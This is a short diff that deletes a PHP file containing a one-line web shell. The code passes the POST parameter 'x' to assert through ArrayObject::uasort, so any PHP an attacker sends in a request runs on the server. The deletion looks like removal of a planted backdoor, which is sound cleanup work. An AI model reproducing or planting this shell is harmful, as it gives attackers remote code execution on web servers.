@@ -1,2 +1,0 @@
-<?php
-$e = new ArrayObject(array($_POST['x'])); $e->uasort('assert');
